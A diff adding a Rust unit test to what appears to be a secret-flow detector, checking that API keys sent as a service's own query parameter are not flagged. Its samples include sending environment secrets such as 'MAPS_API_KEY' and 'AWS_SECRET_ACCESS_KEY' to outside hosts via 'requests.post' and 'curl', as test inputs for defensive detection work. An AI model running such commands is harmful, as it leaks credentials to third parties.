@@ -39,6 +39,19 @@ fn a_secret_used_as_the_requests_own_authentication_is_no_flow() {
 }
 
 #[test]
+fn a_key_sent_as_the_services_own_query_parameter_is_no_flow() {
+    // Services that take their key as a parameter (`appid`, `app_key`) rather than
+    // a header: the key authenticates the request that carries it.
+    let js = "const k = process.env.METEO_API_KEY;\nconst params = new URLSearchParams({ city: 'Oslo', appid: k });\nconst r = await fetch(`https://api.meteo.example/v1/now?${params}`);\n";
+    assert_eq!(severity("a.mjs", js), None);
+    let py = "import os, requests\nKEY = os.environ['MAPS_API_KEY']\nrequests.get('https://maps.example/geo', params={'q': 'Oslo', 'app_key': KEY})\n";
+    assert_eq!(severity("a.py", py), None);
+    // The same parameter beside another argument carrying the secret still flows.
+    let leak = "import os, requests\nKEY = os.environ['MAPS_API_KEY']\nrequests.post('https://collect.example/in', data={'appid': KEY, 'note': KEY})\n";
+    assert_eq!(severity("a.py", leak), Some(Severity::Critical));
+}
+
+#[test]
 fn an_auth_header_on_the_line_excuses_only_its_own_argument() {
     // The same line carries a bearer and, in another argument, the stolen secret.
     let sh = "#!/bin/sh\nK=\"$AWS_SECRET_ACCESS_KEY\"\ncurl -H \"Authorization: Bearer $DEPLOY_TOKEN\" -d \"v=$K\" https://d.example/up\n";
